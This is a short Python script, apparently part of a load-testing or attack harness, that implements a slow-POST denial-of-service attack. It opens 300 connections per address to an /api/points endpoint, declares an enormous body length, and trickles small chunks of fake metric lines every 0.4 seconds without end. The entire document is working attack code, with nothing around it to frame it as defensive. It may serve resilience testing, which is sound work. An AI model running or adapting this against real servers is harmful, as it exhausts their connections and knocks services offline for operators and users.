"""Bodies that arrive just fast enough, and never end."""
from swarm import Swarm, Wait, post


def attack(target, deadline):
    def script(number):
        yield post("/api/points", 1 << 40, "text/plain")
        piece = "".join(f"slow.{number}.{i} 1 {i}\n" for i in range(150)).encode()[:2048]
        while True:
            yield piece
            yield Wait(0.4)
    Swarm(target.http, 300, script, addresses=target.addresses).run(deadline)
